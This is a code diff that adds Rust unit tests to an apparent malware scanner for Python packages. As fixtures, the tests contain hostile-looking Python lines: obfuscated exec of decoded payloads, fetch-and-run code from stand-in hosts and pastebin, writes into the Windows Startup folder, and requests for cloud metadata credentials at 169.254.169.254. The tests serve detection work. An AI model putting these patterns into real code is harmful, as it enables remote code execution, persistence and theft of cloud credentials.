@@ -423,6 +423,141 @@ fn a_text_that_another_file_of_the_package_spells_out_is_not_hidden() {
 }
 
 #[test]
+fn a_program_that_is_only_started_by_hand_hides_nothing_either() {
+    let payload = "import base64\nexec(base64.b64decode('aWQ='))\n";
+    assert_eq!(
+        worst(&[("acme/__init__.py", ""), ("acme/__main__.py", payload)]),
+        "critical"
+    );
+    // A folder from which nothing can be imported is no excuse.
+    assert_eq!(
+        worst(&[("acme/__init__.py/acme/__init__.py", payload)]),
+        "critical"
+    );
+    let innocent = "import sys\nfrom acme import main\nif __name__ == '__main__':\n    sys.exit(main())\n";
+    assert_eq!(
+        worst(&[
+            ("acme/__init__.py", "def main():\n    return 0\n"),
+            ("acme/__main__.py", innocent)
+        ]),
+        ""
+    );
+}
+
+#[test]
+fn a_temporary_file_is_followed_to_the_program_that_is_given_it() {
+    let program = |write: &str, start: &str| {
+        format!(
+            "import os, sys, subprocess\nfrom tempfile import NamedTemporaryFile as file\nclass A:\n    t = file(delete=False)\n    t.write({write})\n    t.close()\n    {start}\n"
+        )
+    };
+    let fetching = "b\"from urllib.request import urlopen;exec(urlopen('https://a.example/x').read())\"";
+    for (write, start, expected) in [
+        (
+            fetching,
+            "os.system(f'start {sys.executable} {t.name}')",
+            "critical",
+        ),
+        (fetching, "subprocess.Popen([sys.executable, t.name])", "critical"),
+        (fetching, "print(t.name)", ""),
+        ("b'hello'", "subprocess.run(['cat', t.name])", ""),
+    ] {
+        let text = program(write, start);
+        let found = worst(&[("acme/__init__.py", ""), ("acme/color.py", &text)]);
+        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
+    }
+}
+
+#[test]
+fn code_in_a_page_of_mainframes_is_hidden() {
+    // `print(1)` in code page 1026.
+    for (text, expected) in [
+        (
+            "exec(b'\\x97\\x99\\x89\\x95\\xa3\\x4d\\xf1\\x5d'.decode('cp1026'))\n",
+            "critical",
+        ),
+        ("exec(b'print(1)'.decode('utf-8'))\n", ""),
+        ("print(b'\\x97'.decode('cp500'))\n", ""),
+    ] {
+        assert_eq!(worst(&[("acme/__init__.py", text)]), expected, "{text}");
+    }
+}
+
+#[test]
+fn whoever_says_where_a_program_is_fetched_says_what_is_run() {
+    let text = |first: &str| {
+        format!(
+            "import requests, os\ndef start():\n    url = requests.get('{first}').text\n    with open('x.exe', 'wb') as f:\n        f.write(requests.get(url).content)\n    os.system('start x.exe')\n"
+        )
+    };
+    assert_eq!(
+        worst(&[("acme/__init__.py", &text("https://pastebin.com/raw/x"))]),
+        "critical"
+    );
+    // Its own host may say which version there is.
+    assert_ne!(
+        worst(&[("acme/__init__.py", &text("https://acme.example/latest"))]),
+        "critical"
+    );
+}
+
+#[test]
+fn what_is_fetched_does_not_start_with_the_host() {
+    let text = |folder: &str| {
+        format!(
+            "import os, requests\ndef download(url, name):\n    path = os.path.join(os.path.expanduser('{folder}'), name)\n    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\n"
+        )
+    };
+    let autostart =
+        text("~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup");
+    assert_eq!(
+        worst(&[("acme/__init__.py", ""), ("acme/download.py", &autostart)]),
+        "high"
+    );
+    assert_eq!(
+        worst(&[
+            ("acme/__init__.py", ""),
+            ("acme/download.py", &text("~/.cache/acme"))
+        ]),
+        ""
+    );
+}
+
+#[test]
+fn a_machine_of_a_cloud_is_not_asked_for_its_credentials_unasked() {
+    let ask = "requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text";
+    let command = "os.system(\"curl http://169.254.169.254/latest/user-data > x\")";
+    for (path, text, expected) in [
+        ("setup.py", format!("import requests\nprint({ask})\n"), "high"),
+        ("setup.py", format!("import os\n{command}\n"), "high"),
+        (
+            "acme/__init__.py",
+            format!("import requests\ndef role():\n    return {ask}\n"),
+            "",
+        ),
+        (
+            "setup.py",
+            "import requests\nprint(requests.get('http://169.254.0.1/x').text)\n".to_owned(),
+            "",
+        ),
+    ] {
+        assert_eq!(worst(&[(path, &text)]), expected, "{path}: {text}");
+    }
+}
+
+#[test]
+fn a_module_that_is_handed_over_as_data_is_unreadable() {
+    let data = "\\x50".repeat(600);
+    let sold =
+        format!("from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b'{data}')\n");
+    assert_eq!(worst(&[("acme/__init__.py", &sold)]), "medium");
+    let table = format!("import array\nTABLE = array.array('B', b'{data}')\n");
+    assert_eq!(worst(&[("acme/__init__.py", &table)]), "");
+    let logger = "import logging\nlog = logging.getLogger(__name__)\n";
+    assert_eq!(worst(&[("acme/__init__.py", logger)]), "");
+}
+
+#[test]
 fn a_finding_names_the_digest_of_its_lines_and_says_why() {
     let one = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
     let two = judge(&[(
